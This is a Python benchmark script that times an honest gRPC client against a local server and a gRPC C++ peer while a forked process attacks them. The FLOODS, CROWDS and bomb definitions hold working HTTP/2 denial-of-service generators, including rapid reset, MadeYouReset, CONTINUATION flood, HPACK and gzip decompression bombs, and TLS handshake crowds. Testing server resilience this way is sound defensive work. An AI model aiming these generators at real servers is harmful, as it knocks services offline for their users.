"""How long an honest client waits while others attack, as a multiple of what it waits without them.

Each server has one core. The other is shared by the honest client (h2load, one call at a time) and the attacker, which
gets what the client leaves. What such company costs by itself is measured first: the same attack on somebody else, a
sink on the attacker's own core that takes whatever comes. A peer under the same attacks tells how others fare.
"""

import contextlib
import gzip
import multiprocessing
import os
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

from h2load import LOAD_CORE, LoadFailed, load
from processes import Process, free_port, table, wait_for_port
from rpc_servers import SERVER_CORE, SERVICE, cpp_programs, fill, message

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "Conformance" / "Wire"))
from frames import *  # noqa: E402

CALLS = 5000
ROUNDS = 3
PATIENCE = 20  # seconds for all calls of a round, which take less than one where nobody attacks
NEWCOMERS = 50
GET = SERVICE + "GetArticle"
PREFACE = MAGIC + frame(SETTINGS)
FIELDS = request("POST", GET, ("content-type", "application/grpc"), ("te", "trailers"))
CALL = block(FIELDS)
ZIPPED = block(FIELDS + [("grpc-encoding", "gzip")])
QUESTION = b"\0\0\0\0\x0c\x0a\x0aarticles/0"
FORK = multiprocessing.get_context("fork")


def pieces(make, size=50):
    """What `make` returns for 0, 1, 2 …, joined in batches."""
    for start in range(0, 1_000_000, size):
        yield b"".join(make(index) for index in range(start, start + size))


def opening(index, fields=CALL, flags=END_HEADERS):
    return frame(HEADERS, flags, 2 * index + 1, fields)


def bomb(announced=None):
    """A compressed request that comes to far more than a message may, and says so at its end, or that it comes to less."""
    body = gzip.compress(bytes(64 << 20))
    if announced is not None:
        body = body[:-4] + announced.to_bytes(4, "little")
    body = b"\1" + u32(len(body)) + body
    cut = [body[start : start + 16000] for start in range(0, len(body), 16000)]

    def make(index):
        frames = [frame(DATA, END_STREAM if piece is cut[-1] else 0, 2 * index + 1, piece) for piece in cut]
        return opening(index, ZIPPED) + b"".join(frames)
    return pieces(make, 1)


# What is sent on one connection after its preface, until the server has had enough.
FLOODS = {
    "rapid reset (CVE-2023-44487)": lambda: pieces(
        lambda index: opening(index) + frame(RST_STREAM, 0, 2 * index + 1, u32(CANCEL))),
    "made you reset (CVE-2025-8671)": lambda: pieces(
        lambda index: opening(index) + frame(WINDOW_UPDATE, 0, 2 * index + 1, u32(0))),
    "CONTINUATION flood (CVE-2024-27316)": lambda: pieces(
        lambda index: frame(CONTINUATION, 0, 1, literal("x", "y" * 500)) if index else frame(HEADERS, 0, 1, CALL)),
    "PING flood": lambda: pieces(lambda _: frame(PING, 0, 0, b"12345678")),
    "SETTINGS flood": lambda: pieces(lambda _: frame(SETTINGS)),
    "empty DATA flood": lambda: pieces(lambda index: frame(DATA, 0, 1) if index else opening(0)),
    "HPACK bomb": lambda: pieces(
        lambda index: opening(index, CALL + b"\xbe" * 12000) if index
        else opening(0, CALL + literal("x", "y" * 3900, first=0x40))),
    "decompression bomb": bomb,
    "decompression bomb that lies": lambda: bomb(1 << 20),
}


def hello():
    """The first bytes of a TLS handshake."""
    ours = ssl.MemoryBIO()
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), ours, server_hostname="localhost").do_handshake()
    return ours.read()


def handshake(connection):
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])
    context.wrap_socket(connection, server_hostname="localhost").close()


def greet(connection, first):
    connection.sendall(first)
    connection.recv(65536)


def call_once(connection):
    connection.sendall(PREFACE + opening(0) + frame(DATA, END_STREAM, 1, QUESTION))
    connection.recv(65536)


def first_answer(port, scheme):
    """A new client's way to its first answer."""
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])
    with contextlib.ExitStack() as stack:
        connection = stack.enter_context(socket.create_connection(("127.0.0.1", port), timeout=10))
        if scheme == "https":
            connection = stack.enter_context(context.wrap_socket(connection, server_hostname="localhost"))
        connection.sendall(PREFACE + opening(0) + frame(DATA, END_STREAM, 1, QUESTION))
        if not connection.recv(65536):
            raise ConnectionError("no answer")


# What each connection of a crowd does; then the next one comes.
CROWDS = {
    "crowd: connect and go": lambda connection: None,
    "crowd: preface and go": lambda connection: connection.sendall(PREFACE),
    "crowd: a call each": call_once,
}
TLS_CROWDS = {
    "TLS crowd: ClientHello and go": lambda connection, first=hello(): connection.sendall(first),
    "TLS crowd: ClientHello, ServerHello and go": lambda connection, first=hello(): greet(connection, first),
    "TLS crowd: a handshake each": handshake,
}


def stand_back():
    os.sched_setaffinity(0, {LOAD_CORE})
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))


def attack(port, name):
    """Attacks on one connection after the other, for ever."""
    stand_back()
    step = {**CROWDS, **TLS_CROWDS}.get(name)
    while True:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
            if step:
                step(connection)
                continue
            connection.sendall(PREFACE)
            for piece in FLOODS[name]():
                connection.sendall(piece)


def drain(connection):
    with contextlib.suppress(OSError), connection:
        connection.settimeout(1)
        while connection.recv(65536):
            pass


def serve_sink(listener):
    """Takes what comes and drops it."""
    stand_back()
    while True:
        with contextlib.suppress(OSError):
            threading.Thread(target=drain, args=(listener.accept()[0],), daemon=True).start()


def certificate(scratch):
    key, chain = scratch / "key.pem", scratch / "chain.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=localhost",
         "-keyout", key, "-out", chain], check=True, capture_output=True)
    return ["--tls-cert", str(chain), "--tls-key", str(key)]


class Target:
    """A server under attack, and the honest client beside."""

    def __init__(self, stack, command, ready, body, scheme="http"):
        self.port = free_port()
        command = [str(part).replace("PORT", str(self.port)) for part in command]
        self.start = lambda: stack.enter_context(Process(command, core=SERVER_CORE, ready=ready))
        self.process = self.start()
        wait_for_port(self.port)
        self.body, self.scheme = body, scheme

    def calm(self):
        self.alone = self.waits()

    def waits(self):
        """The median and the 99th percentile of a call's time, in µs."""
        done = load(f"127.0.0.1:{self.port}", GET, self.body, 1, 1, calls=CALLS, timed=True, scheme=self.scheme,
                    patience=PATIENCE)
        return done.percentile(0.5), done.percentile(0.99)

    def beside(self, title, port):
        """The waits while a port is under attack, as multiples: the middle of some rounds. Who leaves the client without an
        answer in one of them is started anew for the next attack."""
        try:
            rounds = [self._beside(title, port) for _ in range(ROUNDS)]
        except LoadFailed:
            self.process.stop()
            self.process = self.start()
            wait_for_port(self.port)
            return ["no answer", "no answer"]
        middle = (percentiles[ROUNDS // 2] for percentiles in map(sorted, zip(*rounds)))
        return [f"{attacked / alone:.1f}" for attacked, alone in zip(middle, self.alone)]

    def _beside(self, title, port):
        attacker = FORK.Process(target=attack, args=(port, title), daemon=True)
        attacker.start()
        time.sleep(0.2)
        try:
            return self.waits()
        finally:
            attacker.terminate()
            attacker.join()

    def newcomers(self, title, port):
        """The median and the longest time, in ms, in which a new client gets its first answer, and how many got none."""
        attacker = FORK.Process(target=attack, args=(port, title), daemon=True)
        attacker.start()
        time.sleep(1)
        try:
            return self.first_answers()
        finally:
            attacker.terminate()
            attacker.join()

    def first_answers(self):
        times, failures = [], 0
        for _ in range(NEWCOMERS):
            start = time.monotonic()
            try:
                first_answer(self.port, self.scheme)
                times.append((time.monotonic() - start) * 1000)
            except OSError:
                failures += 1
        times.sort()
        waits = [f"{times[len(times) // 2]:.1f}", f"{times[-1]:.1f}"] if times else ["", ""]
        return [*waits, failures]

    def memory(self):
        return self.process.resident_bytes() >> 20


def run(bin_dir, _corpora):
    with tempfile.TemporaryDirectory() as scratch, contextlib.ExitStack() as stack:
        scratch = Path(scratch)
        body = message(scratch / "get", b"\x0a\x0aarticles/0")
        sink = stack.enter_context(socket.create_server(("127.0.0.1", 0), backlog=1024))
        sinking = FORK.Process(target=serve_sink, args=(sink,), daemon=True)
        sinking.start()
        stack.callback(sinking.terminate)

        def matiane(folder, *more):
            return [bin_dir / "matiane-server", "--data-dir", scratch / folder, "--listen", "127.0.0.1:PORT",
                    "--threads", "1", *more]

        plain = Target(stack, matiane("plain"), "serving on", body)
        fill(bin_dir, f"127.0.0.1:{plain.port}")
        peer = Target(stack, [cpp_programs() / "grpc-cpp-server", "PORT"], "serving", body)
        # An empty archive; that an article is not found takes as long.
        secure = Target(stack, matiane("secure", *certificate(scratch)), "serving on", body, scheme="https")
        for target in (plain, peer, secure):
            target.calm()
        rows = [["(nobody attacks), µs", "", "", *plain.alone, *peer.alone, f"{plain.memory()} MiB"]]
        for title in [*FLOODS, *CROWDS, *TLS_CROWDS]:
            ours = secure if title in TLS_CROWDS else plain
            control = ours.beside(title, sink.getsockname()[1])
            attacked = ours.beside(title, ours.port)
            other = ["", ""] if ours is secure else peer.beside(title, peer.port)
            rows.append([title, *control, *attacked, *other, f"{ours.memory()} MiB"])
        table("An honest client beside an attacker: its waits as multiples of those without",
              ["attack", *(f"{name} {part}" for name in ("on a sink", "matiane-server", "gRPC C++") for part in ("p50", "p99")),
               "memory afterwards"], rows)
        rows = []
        for target, crowds, way in ((plain, CROWDS, "in plaintext"), (secure, TLS_CROWDS, "over TLS")):
            rows.append([f"(nobody attacks), {way}", *target.first_answers()])
            rows += [[title, *target.newcomers(title, target.port)] for title in crowds]
        table(f"{NEWCOMERS} new clients beside an attacker, one after the other: until the first answer",
              ["attack", "p50, ms", "longest, ms", "without an answer"], rows)
